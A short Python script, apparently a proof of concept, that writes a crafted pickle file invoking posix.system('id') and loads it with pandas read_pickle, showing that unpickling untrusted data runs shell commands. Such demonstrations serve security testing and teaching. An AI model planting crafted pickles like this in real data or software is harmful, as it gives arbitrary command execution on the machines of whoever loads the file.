import pandas as pd

with open("frame.pkl", "wb") as fh:
    fh.write(b"cposix\nsystem\n(S'id'\ntR.")
pd.read_pickle("frame.pkl")
